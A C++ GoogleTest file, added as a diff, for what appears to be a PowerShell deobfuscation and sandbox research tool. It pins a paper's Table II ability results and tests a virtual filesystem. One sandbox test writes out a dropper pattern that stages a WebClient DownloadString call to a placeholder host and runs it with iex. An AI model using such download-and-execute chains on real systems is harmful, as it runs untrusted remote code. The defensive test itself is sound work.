@@ -1,0 +1,124 @@
+// Regression pin for our tool's Table II row: the exact ability matrix the
+// paper reports must hold under ctest, not only in the bench binary.
+// Also covers the virtual filesystem added for stage-to-disk chains.
+
+#include <gtest/gtest.h>
+
+#include "baselines/baseline.h"
+#include "core/deobfuscator.h"
+#include "obfuscator/obfuscator.h"
+#include "pslang/alias_table.h"
+#include "psinterp/interpreter.h"
+#include "sandbox/sandbox.h"
+
+namespace ideobf {
+namespace {
+
+bool contains_ci(std::string_view haystack, std::string_view needle) {
+  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
+}
+
+// --------------------------------------------- Table II row regression pin
+
+class AbilityRow : public ::testing::TestWithParam<Technique> {};
+
+TEST_P(AbilityRow, MatchesPaperTableII) {
+  const Technique t = GetParam();
+  Obfuscator obf(5150 + static_cast<int>(t));
+  InvokeDeobfuscator deobf;
+  const std::string marker = "pin-marker-2024";
+
+  std::string script;
+  if (technique_level(t) == 1) {
+    script = obf.apply(t, "write-host '" + marker + "'");
+  } else if (t == Technique::WhitespaceEncoding ||
+             t == Technique::SpecialCharEncoding) {
+    script = obf.apply(t, "write-host '" + marker + "'");
+  } else {
+    std::string expr;
+    do {
+      expr = obf.obfuscate_literal(t, marker);
+    } while (expr.find(marker) != std::string::npos);
+    script = "write-host " + expr;
+  }
+
+  const std::string out = deobf.deobfuscate(script);
+  if (t == Technique::WhitespaceEncoding) {
+    EXPECT_FALSE(contains_ci(out, marker)) << "paper's x cell must stay x";
+  } else if (t == Technique::RandomName) {
+    SUCCEED();  // covered by the renaming tests; no marker semantics here
+  } else {
+    EXPECT_TRUE(contains_ci(out, marker)) << script << "\n-> " << out;
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    TableII, AbilityRow, ::testing::ValuesIn(all_techniques()),
+    [](const ::testing::TestParamInfo<Technique>& info) {
+      return std::string(to_string(info.param));
+    });
+
+// ------------------------------------------------------ virtual filesystem
+
+TEST(VirtualFs, SetThenGetContent) {
+  ps::Interpreter interp;
+  EXPECT_EQ(interp.evaluate_script("Set-Content C:\\t\\a.txt 'stored'\n"
+                                   "Get-Content C:\\t\\a.txt")
+                .to_display_string(),
+            "stored");
+}
+
+TEST(VirtualFs, AddContentAppends) {
+  ps::Interpreter interp;
+  EXPECT_EQ(interp.evaluate_script("Set-Content f.txt 'a'\n"
+                                   "Add-Content f.txt 'b'\nGet-Content f.txt")
+                .to_display_string(),
+            "ab");
+}
+
+TEST(VirtualFs, TestPathReflectsWrites) {
+  ps::Interpreter interp;
+  EXPECT_FALSE(interp.evaluate_script("Test-Path x.ps1").get_bool());
+  EXPECT_TRUE(interp.evaluate_script("Set-Content x.ps1 'v'\nTest-Path x.ps1")
+                  .get_bool());
+}
+
+TEST(VirtualFs, IoFileRoundTrip) {
+  ps::Interpreter interp;
+  EXPECT_EQ(interp.evaluate_script(
+                    "[IO.File]::WriteAllText('C:\\s.txt', 'io-data')\n"
+                    "[IO.File]::ReadAllText('C:\\s.txt')")
+                .to_display_string(),
+            "io-data");
+}
+
+TEST(VirtualFs, PipelineOutFile) {
+  ps::Interpreter interp;
+  EXPECT_EQ(interp.evaluate_script("'from-pipe' | Set-Content p.txt\n"
+                                   "Get-Content p.txt")
+                .to_display_string(),
+            "from-pipe");
+}
+
+TEST(VirtualFs, StageToDiskThenExecute) {
+  // The dropper pattern the virtual FS exists for: write a script to disk,
+  // read it back, invoke it — behavior must flow end to end.
+  Sandbox sandbox;
+  const BehaviorProfile p = sandbox.run(
+      "Set-Content stage.ps1 '(New-Object Net.WebClient).DownloadString("
+      "''http://staged.test/x'')'\n"
+      "iex (Get-Content stage.ps1)");
+  EXPECT_TRUE(p.executed_ok) << p.error;
+  EXPECT_TRUE(p.network.count("dns:staged.test")) << p.error;
+}
+
+TEST(VirtualFs, PathsAreCaseInsensitive) {
+  ps::Interpreter interp;
+  EXPECT_EQ(interp.evaluate_script("Set-Content C:\\X.TXT 'v'\n"
+                                   "Get-Content c:\\x.txt")
+                .to_display_string(),
+            "v");
+}
+
+}  // namespace
+}  // namespace ideobf
